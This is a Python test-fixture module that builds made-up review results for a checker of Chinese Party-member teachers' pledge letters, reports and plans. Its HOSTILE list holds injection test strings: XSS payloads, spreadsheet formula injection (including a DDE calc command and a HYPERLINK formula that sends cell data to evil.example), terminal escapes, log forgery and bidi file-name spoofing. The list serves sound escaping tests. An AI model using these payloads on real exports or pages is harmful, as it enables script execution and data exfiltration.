"""Made-up reviews that look like a county's: every kind and state, and hostile text in every field."""

from __future__ import annotations

import random
from collections.abc import Iterator

from checker.document import Where
from checker.findings import Evidence, Finding, Judgement, Level, Review, Section
from checker.similar import Passage, SimilarPair

HOSTILE = [
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "[bold red]假的标记[/bold red] [link=http://evil.example]x[/link]",
    "\x1b[2J\x1b]0;title\x07清屏",
    "第一行\n2026-01-01 00:00:00 INFO 伪造的一行",
    "a\u2028b\u2029c\u202egnp.exe\u0000\ufffe",
    "javascript:alert(1)",
    "[点我](javascript:alert(1))",
    "}}{{7*7}}${x}`",
    "'\"><svg/onload=window.pwned=1>",
    "_x0041_",
    "坏名字\udcff",
]

LEADS = [
    ("study", "带头学习提高"),
    ("excel", "带头争创佳绩"),
    ("serve", "带头服务群众"),
    ("discipline", "带头遵纪守法"),
    ("righteous", "带头弘扬正气"),
]
GOODS = [
    ("team", "领导班子好"),
    ("members", "党员队伍好"),
    ("mechanism", "工作机制好"),
    ("results", "工作业绩好"),
    ("masses", "群众反映好"),
]
SECTIONS = {
    "letter": [("title", "标题"), ("pledge", "承诺内容"), ("signature", "签名"), ("date", "日期")],
    "report": [
        ("basic", "基本情况"),
        ("problems", "存在的主要问题"),
        ("causes", "原因分析"),
        ("remedies", "努力方向和整改措施"),
    ],
    "plan": [
        ("guiding", "指导思想"),
        ("content", "目标要求"),
        ("carrier", "活动载体"),
        ("phases", "方法步骤"),
        ("leadership", "组织领导"),
    ],
}
DEEDS = {
    "study": "每天自学一小时，全年读完《论教育》等三本书，记读书笔记两万字。",
    "excel": "承担九年级两个班的数学课，期末平均分比上年提高六分。",
    "serve": "家访四十二户，为三名留守学生每周补课两次，不收一分钱。",
    "discipline": "不迟到早退，按时交纳党费，拒收家长礼品两次并当面退回。",
    "righteous": "在支部会上当面指出同事体罚学生的做法，自己首先作出检讨。",
    "team": "班子每周三集体学习，重大事项集体研究并公示。",
    "members": "二十三名党员人人领到一个岗位，岗位牌挂在办公室门口。",
    "mechanism": "建立月查、季评、年结制度，结果张榜公布。",
    "results": "中考升学率由七成升到八成二。",
    "masses": "群众满意度测评九成六，收到的十七条意见全部办结。",
}
SCHOOLS = ["城关中学", "东河小学", "西岭中心校", "南坪幼儿园", "北山初级中学"]
PEOPLE = ["张建国", "李秀兰", "王志强", "赵敏", "陈桂英", "刘洋"]


def one(number: int, *, kind: str = "letter", seed: int = 0, hostile: bool = False) -> Review:
    """One readable review, the same for the same arguments."""
    rng = random.Random(f"{seed}/{number}/{kind}")
    texts: dict[int, str] = {0: {"letter": "承诺书", "report": "党性分析报告", "plan": "实施方案"}[kind]}
    elements = []
    paragraph = 2
    wanted = [("leads", *e) for e in LEADS] + ([("goods", *e) for e in GOODS] if kind == "plan" else [])
    for group, id, title in wanted:
        level: Level = rng.choices(["covered", "named", "missing"], [7, 2, 1])[0]  # type: ignore[assignment]
        evidence: tuple[Evidence, ...] = ()
        if level != "missing":
            sentence = DEEDS[id] if level == "covered" else f"我要{title}，争当优秀党员。"
            before, after = "作为一名党员教师，我这样要求自己。", "今后还要坚持下去，请同志们监督。"
            texts[paragraph] = before + sentence + after
            where = Where("body", paragraph, len(before), len(before) + len(sentence))
            evidence = (Evidence(sentence, where),)
        reason = {"covered": "", "named": "只有口号，没有具体做法。", "missing": "全文没有提到。"}[level]
        score = {"covered": 0.9, "named": 0.4, "missing": 0.02}[level]
        elements.append(Judgement(id, group, title, level, score, evidence, reason))
        paragraph += 2
    sections = []
    for id, title in SECTIONS[kind]:
        found = rng.random() < 0.85
        texts[paragraph] = title
        where = Where("body", paragraph, 0, len(title))
        sections.append(Section(id, title, found, title if found else "", where if found else None))
        paragraph += 1
    findings = [
        Finding(
            f"coverage.{'named_only' if e.level == 'named' else 'missing'}",
            "error",
            f"“{e.title}”{'只有口号，请写出具体做法' if e.level == 'named' else '没有写到，请补写'}。",
            e.evidence[0].where if e.evidence else None,
        )
        for e in elements
        if e.level != "covered"
    ]
    findings += [
        Finding("sections.missing", "error", f"缺少“{s.title}”部分，请补上。")
        for s in sections
        if not s.found
    ]
    if rng.random() < 0.5:
        texts[1] = "我郑重承诺：效劳群众,不做表面文章。"
        findings.append(
            Finding(
                "spun.word", "warning", "“效劳”应为“服务”，疑似机器换词。", Where("body", 1, 6, 8), "服务"
            )
        )
        findings.append(
            Finding("punctuation.halfwidth", "info", "半角逗号应改为全角。", Where("body", 1, 10, 11), "，")
        )
    name = f"{SCHOOLS[number % len(SCHOOLS)]}/{PEOPLE[number % len(PEOPLE)]}{number}.docx"
    title = texts[0]
    organization = SCHOOLS[number % len(SCHOOLS)]
    if hostile:
        bad = HOSTILE[number % len(HOSTILE)]
        name, title, organization = bad.replace("/", "∕") + ".docx", bad, bad
        texts[0], texts[3] = bad, bad * 3
        findings.append(
            Finding("placeholder.left", "error", f"未填写：{bad}", Where("body", 3, 0, len(bad)), bad)
        )
        elements[0] = Judgement(
            "study",
            "leads",
            "带头学习提高",
            "covered",
            0.9,
            (Evidence(bad, Where("body", 3, len(bad), 2 * len(bad))),),
        )
    return Review(
        file=name,
        sha256=f"{number:064x}",
        status="revise" if any(f.severity == "error" for f in findings) else "pass",
        kind=kind,
        kind_score=0.97,
        standard="chuangxianzhengyou",
        title=title,
        organization=organization,
        author=PEOPLE[number % len(PEOPLE)] if kind != "plan" else "",
        date=f"2011-03-{number % 28 + 1:02d}",
        characters=rng.randint(400, 3000),
        elements=tuple(elements),
        sections=tuple(sections),
        findings=tuple(findings),
        format="docx",
        texts=texts,
    )


def unreadable(number: int = 0) -> Review:
    """One file that could not be read."""
    reason = [
        "文件有打开密码，无法读取。请取消密码后重新上交。",
        "文件是空的，没有任何内容。请检查后重新上交。",
        "文件已损坏，打不开。请用 Word 或 WPS 打开原稿另存一份再上交。",
    ][number % 3]
    return Review(f"打不开的/文件{number}.docx", f"{number + 900000:064x}", "unreadable", reason=reason)


def many(count: int, *, seed: int = 0) -> Iterator[Review]:
    """A folder's worth: mostly letters, some reports and plans, one in 40 unreadable."""
    for number in range(count):
        if number % 40 == 7:
            yield unreadable(number)
        else:
            yield one(number, kind=("letter", "letter", "report", "plan")[number % 4], seed=seed)


def hostile() -> list[Review]:
    """One review for each hostile string, in each field that comes from a document."""
    return [one(n, kind=("letter", "plan")[n % 2], hostile=True) for n in range(len(HOSTILE))]


def pair(reviews: list[Review], one: int, other: int) -> SimilarPair:
    """Two of the reviews as a pair that shares the words of their first evidence."""
    places = [next(e for j in reviews[n].elements for e in j.evidence) for n in (one, other)]
    return SimilarPair(
        one, other, 0.84, 0.6, 123, (Passage(places[0].text, places[0].where, places[1].where),)
    )
